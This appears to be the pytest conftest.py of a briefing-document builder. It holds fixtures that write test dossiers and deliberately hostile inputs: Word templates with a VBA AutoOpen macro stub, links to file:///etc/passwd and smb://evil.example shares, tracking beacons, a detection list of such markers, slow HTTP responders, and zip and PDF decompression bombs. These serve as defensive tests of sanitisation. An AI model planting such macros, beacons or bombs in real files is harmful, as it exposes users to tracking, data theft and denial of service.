"""Shared test helpers: tiny dossiers built in a temp folder, and the repository's own."""

from __future__ import annotations

import os
import shutil
import textwrap
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parent.parent


def pytest_addoption(parser):
    parser.addoption("--update-golden", action="store_true", default=False,
                     help="rewrite tests/golden/ from the default build instead of comparing with it")


@pytest.fixture(scope="session")
def update_golden(request) -> bool:
    """True when run with --update-golden: golden files are rewritten, not compared."""
    return request.config.getoption("--update-golden")


ARTICLE = (
    "Le président a reçu son homologue à Moscou le 23 juin 2025. "
    "« Nous obtenons de bons résultats », a-t-il déclaré.\n"
    "Trois accords ont été signés, dont un sur l’énergie nucléaire.\n"
)

CONFIG = {
    "title": "Test brief",
    "subject": "A small dossier for tests",
    "organisation": "Test Desk",
    "author": "Tester",
    "date": "2025-06-24",
    "reference": "T-1",
    "marking": "UNCLASSIFIED",
    "sections": [
        {"id": "summary", "title": "Executive summary"},
        {"id": "accords", "title": "Accords"},
    ],
}


def default_facts() -> list[dict]:
    return [
        {
            "id": "meeting", "section": "summary", "headline": True,
            "claim": "The president received his counterpart in Moscow on 23 June 2025.",
            "evidence": [{"source": "one", "quote": "Le président a reçu son homologue à Moscou le 23 juin 2025."}],
        },
        {
            "id": "accords", "section": "accords", "headline": True, "key": "accords.count", "value": 3,
            "claim": "Three accords were signed, one of them on nuclear energy.",
            "evidence": [{"source": "one", "quote": "Trois accords ont été signés, dont un sur l'énergie nucléaire."}],
        },
    ]


def make_dossier(root: Path, *, config: dict | None = None, sources: list[dict] | None = None,
                 texts: dict[str, str | bytes] | None = None, facts: list[dict] | None = None,
                 questions: list[dict] | None = None, templates: dict[str, str] | None = None) -> Path:
    """Write a small, valid dossier under `root`; any part can be replaced.

    A `facts` list is written as sources/facts/facts.yaml; `texts` maps a
    source id to its article (str or raw bytes); `templates` maps file names
    to template text under templates/. Sources made from `texts` carry the
    fingerprint of their text (`sha256`).
    """
    folder = root / "sources"
    (folder / "texts").mkdir(parents=True, exist_ok=True)
    (folder / "facts").mkdir(exist_ok=True)
    texts = texts if texts is not None else {"one": ARTICLE}
    if sources is None:  # fingerprinted, as add-source writes them
        from briefing.check.fingerprints import fingerprint

        sources = [
            {"id": source_id, "file": f"texts/{source_id}.txt", "outlet": f"Outlet {source_id}", "author": "unknown",
             "date": "2025-06-23", "language": "fr", "reliability": "B", "reliability_reason": "test source",
             "sha256": fingerprint(text.decode("utf-8", "replace") if isinstance(text, bytes) else text)}
            for source_id, text in texts.items()
        ]
    for source_id, text in texts.items():
        path = folder / "texts" / f"{source_id}.txt"
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    _dump(folder / "dossier.yaml", config if config is not None else CONFIG)
    _dump(folder / "sources.yaml", sources)
    _dump(folder / "facts" / "facts.yaml", facts if facts is not None else default_facts())
    if questions is not None:
        _dump(folder / "questions.yaml", questions)
    for name, text in (templates or {}).items():
        (root / "templates").mkdir(exist_ok=True)
        (root / "templates" / name).write_text(textwrap.dedent(text), encoding="utf-8")
    return root


def _dump(path: Path, data) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture
def dossier(tmp_path: Path) -> Path:
    return make_dossier(tmp_path / "dossier")


@pytest.fixture
def default_dossier(tmp_path: Path) -> Path:
    """A copy of the repository's own dossier (sources/ and templates/)."""
    target = tmp_path / "default"
    shutil.copytree(REPO / "sources", target / "sources")
    shutil.copytree(REPO / "templates", target / "templates")
    return target


EPOCH = "1750723200"  # 2025-06-24 00:00 UTC, for reproducible builds


def build_default(out: Path, formats: tuple[str, ...]) -> Path:
    """Build every template of the repository's dossier into `out`, reproducibly."""
    from briefing.build import build_briefs

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        build_briefs(REPO, (), formats, out)
    return out


def error_lines(call, *args) -> list[str]:
    """The `file:line: message` lines of the BriefingError(s) that `call(*args)` raises."""
    from briefing.errors import BriefingError, BriefingErrors

    with pytest.raises(BriefingError) as caught:
        call(*args)
    error = caught.value
    return [e.format_line() for e in (error.errors if isinstance(error, BriefingErrors) else [error])]


def require(program: str) -> str:
    """Skip when a system program is missing; under CI a skip is turned into a failure."""
    path = shutil.which(program)
    if path is None:
        reason = f"{program} is not installed (apt-get install {PACKAGES.get(program, program)})"
        if os.environ.get("CI"):
            pytest.fail(f"{reason}; CI must install it (.ci/run)")
        pytest.skip(reason)
    return path


PACKAGES = {"pdftotext": "poppler-utils", "pdftoppm": "poppler-utils", "pdffonts": "poppler-utils", "qpdf": "qpdf",
            "libreoffice": "libreoffice-writer-nogui", "chromium": "chromium", "java": "default-jre-headless"}


HOSTILE = ("vbaProject", "evil", "customXml", "glossary", "00000000-0000-0000-0000-000000000000", "file:", "smb:",
           "beacon", "docProps/custom",
           "thumbnail", "header9", "SELECT")  # what nothing built from `hostile_reference` may hold


def linking_reference(path: Path) -> Path:
    """The shipped reference.docx with links written as plain attributes, not relationships: a
    picture bullet (VML `src` and `o:href` in numbering.xml), header shape defaults with a fill
    from a file share, document variables holding addresses, tracked changes turned on, unknown
    settings, an address in a style, the theme and the fonts table, and a style sheet to fetch."""
    import zipfile

    v = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    with zipfile.ZipFile(REPO / "templates" / "reference.docx") as shipped:
        parts = {name: shipped.read(name) for name in shipped.namelist()}
    numbering = parts["word/numbering.xml"].decode()
    first = numbering.index("<w:abstractNum ")
    numbering = (numbering[:first] + f'<w:numPicBullet w:numPicBulletId="0"><w:pict {v}><v:shape style="width:9pt">'
                 '<v:imagedata src="http://beacon.example/bullet.png" o:href="file:///C:/bullets/dot.png"/></v:shape>'
                 '</w:pict></w:numPicBullet>' + numbering[first:])
    parts["word/numbering.xml"] = numbering.replace("<w:lvlJc ", '<w:lvlPicBulletId w:val="0"/><w:lvlJc ', 1).encode()
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = settings.replace("<w:zoom", (
        '<w:trackRevisions/><w:revisionView w:markup="0"/><w:madeUpSetting w:val="//evil.example/x"/>'
        f'<w:hdrShapeDefaults><o:shapedefaults {v} v:ext="edit"><v:fill src="\\\\evil.example\\share\\fill.png" '
        'o:href="https://beacon.example/fill.png"/></o:shapedefaults></w:hdrShapeDefaults><w:zoom')).replace(
        "<w:decimalSymbol", '<w:docVars><w:docVar w:name="Home" w:val="https://beacon.example/home"/><w:docVar '
        'w:name="Share" w:val="\\\\evil.example\\share"/></w:docVars><w:decimalSymbol').encode()
    styles = parts["word/styles.xml"].decode()
    parts["word/styles.xml"] = styles.replace("?>", '?><?xml-stylesheet href="http://beacon.example/style.xsl"?>', 1).replace(
        "<w:docDefaults>", '<w:docDefaults><w:madeUp w:val="file:///etc/passwd"/>', 1).encode()
    theme = parts["word/theme/theme1.xml"].decode()
    parts["word/theme/theme1.xml"] = theme.replace('name="Office Theme"', 'name="Office Theme" '
                                                   'hostile="http://beacon.example/theme"', 1).encode()
    fonts = parts["word/fontTable.xml"].decode()
    parts["word/fontTable.xml"] = fonts.replace('<w:font w:name="Symbol">', '<w:font w:name="Symbol">'
                                                '<w:altName w:val="\\\\evil.example\\fonts\\symbol.ttf"/>', 1).encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def hostile_reference(path: Path) -> Path:
    """The shipped reference.docx, restyled (Heading 1 at 22 pt) as a colleague would, and made
    hostile: macros, an unknown part, custom XML and custom properties, a glossary, an embedded
    font, an attached template and a mail merge on a file share, a linked beacon in the theme, a
    header with a first-page variant and a linked picture, hyperlinks and an OLE object to
    file:// and smb:// addresses."""
    import zipfile

    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
        mode = ' TargetMode="External"' if external else ""
        return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'

    with zipfile.ZipFile(REPO / "templates" / "reference.docx") as shipped:
        parts = {name: shipped.read(name) for name in shipped.namelist()}
    styles = parts["word/styles.xml"].decode()
    heading = styles.index('w:styleId="Heading1"')
    size = styles.index('<w:sz w:val="', heading)
    parts["word/styles.xml"] = (styles[:size] + '<w:sz w:val="44"/><w:szCs w:val="44"' +
                                styles[styles.index("/>", styles.index("<w:szCs", size)):]).encode()
    document_rels = parts["word/_rels/document.xml.rels"].decode().replace("</Relationships>", "".join([
        rel("rId90", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        rel("rId91", "http://example.org/evil", "evil.bin"),
        rel("rId92", f"{office}/hyperlink", "smb://evil.example/share/loot", True),
        rel("rId93", f"{office}/oleObject", "file:///etc/passwd", True),
        rel("rId94", f"{office}/header", "header9.xml"),
        rel("rId95", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/glossaryDocument",
            "glossary/document.xml"),
    ]) + "</Relationships>")
    parts["word/_rels/document.xml.rels"] = document_rels.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"evil\" Sub AutoOpen() Shell \"calc\""
    parts["word/evil.bin"] = b"evil payload"
    parts["word/glossary/document.xml"] = b'<w:glossaryDocument xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' + office + '"'
    parts["word/header9.xml"] = (f'<w:hdr {w} xmlns:v="urn:schemas-microsoft-com:vml"><w:p><w:r><w:pict><v:imagedata '
                                 'r:id="rId1"/></w:pict></w:r></w:p></w:hdr>').encode()
    parts["word/_rels/header9.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
        "rId1", f"{office}/image", "http://beacon.example/pixel.png", True) + "</Relationships>").encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace("<w:body>", '<w:body><w:p><w:hyperlink r:id="rId92"><w:r><w:t>evil'
                                                  "</w:t></w:r></w:hyperlink></w:p>").replace(
        "<w:pgSz", '<w:headerReference w:type="first" r:id="rId94"/><w:titlePg/><w:pgSz').encode()
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = settings.replace("<w:zoom", (
        '<w:writeProtection w:recommended="1"/><w:attachedTemplate r:id="rId1"/><w:linkStyles/>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=evil"/><w:query w:val="SELECT * FROM loot"/>'
        '<w:dataSource r:id="rId2"/></w:mailMerge><w:zoom')).encode()
    parts["word/_rels/settings.xml.rels"] = (f'<Relationships xmlns="{rels}">' + "".join([
        rel("rId1", f"{office}/attachedTemplate", "file:///\\\\evil.example\\share\\evil.dotm", True),
        rel("rId2", f"{office}/mailMergeSource", "smb://evil.example/share/loot.mdb", True),
    ]) + "</Relationships>").encode()
    parts["word/_rels/theme/theme1.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
        "rId1", f"{office}/image", "http://beacon.example/theme.png", True) + "</Relationships>").encode()
    theme = parts["word/theme/theme1.xml"].decode()
    end = theme.index("</a:fmtScheme>")
    parts["word/theme/theme1.xml"] = (theme[:end] + f'<a:bgFillStyleLst xmlns:r="{office}"><a:blipFill><a:blip '
                                      'r:link="rId1"/></a:blipFill></a:bgFillStyleLst>' + theme[end:]).encode() \
        if "<a:bgFillStyleLst" not in theme else theme.replace(
            "<a:bgFillStyleLst>", f'<a:bgFillStyleLst><a:blipFill xmlns:r="{office}"><a:blip r:link="rId1"/></a:blipFill>', 1).encode()
    fonts = parts["word/fontTable.xml"].decode()
    parts["word/fontTable.xml"] = fonts.replace("</w:font>", '<w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>', 1).encode()
    parts["word/_rels/fontTable.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
        "rId1", f"{office}/font", "fonts/font1.odttf") + "</Relationships>").encode()
    parts["word/fonts/font1.odttf"] = b"evil font"
    parts["docProps/custom.xml"] = b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>'
    parts["_rels/.rels"] = parts["_rels/.rels"].decode().replace("</Relationships>", rel(
        "rId9", f"{office}/custom-properties", "docProps/custom.xml") + "</Relationships>").encode()
    types = parts["[Content_Types].xml"].decode().replace("</Types>", (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.header+xml"/></Types>'))
    parts["[Content_Types].xml"] = types.encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def trickle(handler, in_headers: bool, seconds: float = 0.2, limit: int = 600) -> None:
    """Answer an http.server request slowly: a byte every `seconds`, in the body of a page (or in
    its headers), for up to `limit` bytes, or until the client goes away."""
    import time

    try:
        if in_headers:
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Slow: ")
        else:
            handler.send_response(200)
            handler.send_header("Content-Type", "text/html")
            handler.send_header("Content-Length", str(limit))
            handler.end_headers()
        for _ in range(limit):
            handler.wfile.write(b"x")
            time.sleep(seconds)
    except OSError:  # the client gave up
        pass


NEEDLE = "la commission mixte publiera le niveau du lac chaque mois"  # in the middle of `one_long_sentence`


def one_long_sentence(size: int = 1_600_000) -> str:
    """A line of `size` characters that never ends a sentence (words, commas, no full stop),
    with `NEEDLE` in its middle: an article of one sentence, as a bad extraction gives."""
    import random

    pick = random.Random(1).choice
    vocabulary = [word for word in ("le président a reçu son homologue à Moscou pour parler des accords signés sur "
                                    "l’énergie et la sécurité du pays avec ses partenaires, selon les sources du "
                                    "ministère qui évoquent une coopération renforcée dans la région").split()]
    words: list[str] = []
    length = 0
    while length < size:
        words.append(pick(vocabulary))
        length += len(words[-1]) + 1
        if len(words) == 130_000:
            words.append(NEEDLE)
    return " ".join(words)


def many_sentences(size: int, seed: int = 2) -> str:
    """A text of `size` characters or so, of short lines of ordinary sentences: a long report."""
    import random

    pick = random.Random(seed).choice
    vocabulary = ("le président a reçu son homologue à Moscou pour parler des accords signés sur l’énergie et la "
                  "sécurité du pays avec ses partenaires selon les sources du ministère qui évoquent une coopération "
                  "renforcée dans la région").split()
    lines, length = [], 0
    while length < size:
        line = " ".join(" ".join(pick(vocabulary) for _ in range(12)).capitalize() + "." for _ in range(4))
        lines.append(line)
        length += len(line) + 1
    return "\n".join(lines) + "\n"


@pytest.fixture
def pysbd_characters(monkeypatch) -> list[int]:
    """The length of every text given to pysbd, as `authoring.coverage` segments."""
    from briefing.authoring import coverage

    given: list[int] = []
    real = coverage.segmenter

    class Counting:
        def __init__(self, language):
            self.inner = real(language)

        def segment(self, text):
            given.append(len(text))
            return self.inner.segment(text)

        def __getattr__(self, name):
            return getattr(self.inner, name)

    monkeypatch.setattr(coverage, "segmenter", Counting)
    return given


# Compressed bombs: a small file that unpacks to far more (zeros and spaces compress a thousand to one).
# Made at run time, a megabyte at a time, so that neither the repository nor the test holds them whole.

BOMB_TEXT = "The commission met in Calder on 7 April 2025 and read the level of the lake."


def word_bomb(path: Path, megabytes: int = 100, declared: int | None = None, compression: int | None = None) -> Path:
    """A Word file of about 100 kB whose word/document.xml unpacks to `megabytes` MB: a paragraph,
    then spaces. With `declared`, its zip headers say the part unpacks to that many bytes (the sizes
    a zip gives are the writer's word, and can lie); `compression`, how the part is packed (deflated)."""
    import io
    import zipfile

    import docx

    document = docx.Document()
    document.add_paragraph(BOMB_TEXT)
    saved = io.BytesIO()
    document.save(saved)
    with zipfile.ZipFile(saved) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    xml = parts.pop("word/document.xml")
    end = xml.index(b"</w:body>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED if compression is None else compression
        with package.open(info, "w") as part:
            part.write(xml[:end])
            for _ in range(megabytes):
                part.write(b" " * 1_000_000)
            part.write(xml[end:])
    if declared is not None:
        _declare_size(path, "word/document.xml", declared)
    return path


def _declare_size(path: Path, name: str, size: int) -> None:
    """Write `size` as the unpacked size of the part `name`, in its local header and in the central directory."""
    import struct
    import zipfile

    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as package:
        info = package.getinfo(name)
        central = package.start_dir
    struct.pack_into("<I", data, info.header_offset + 22, size)
    while data[central:central + 4] == b"PK\x01\x02":
        name_length, extra, comment = struct.unpack_from("<HHH", data, central + 28)
        if bytes(data[central + 46:central + 46 + name_length]).decode() == name:
            struct.pack_into("<I", data, central + 24, size)
        central += 46 + name_length + extra + comment
    path.write_bytes(bytes(data))


def pdf_with_streams(path: Path, page: bytes, padding_megabytes: int = 0, image_megabytes: int = 0) -> Path:
    """A one-page PDF whose page draws `page` (content-stream operators), then `padding_megabytes` MB
    of spaces in the same stream; with `image_megabytes`, it also draws a grey image of that many
    MB of pixels. Every stream deflated, a megabyte at a time."""
    import zlib

    def deflated(head: bytes, megabytes: int, fill: bytes) -> bytes:
        packer = zlib.compressobj(9)
        packed = [packer.compress(head)] + [packer.compress(fill * 1_000_000) for _ in range(megabytes)]
        return b"".join(packed) + packer.flush()

    image = b"/XObject << /Im1 6 0 R >> " if image_megabytes else b""
    drawn = b"q 200 0 0 200 100 300 cm /Im1 Do Q\n" if image_megabytes else b""
    content = deflated(page + b"\n" + drawn, padding_megabytes, b" ")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
        + image + b">> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if image_megabytes:
        pixels = deflated(b"", image_megabytes, b"\x80")
        objects.append(b"<< /Type /XObject /Subtype /Image /Width 1000 /Height %d /ColorSpace /DeviceGray "
                       b"/BitsPerComponent 8 /Length %d /Filter /FlateDecode >>\nstream\n" % (image_megabytes * 1000, len(pixels))
                       + pixels + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    path.write_bytes(bytes(out))
    return path
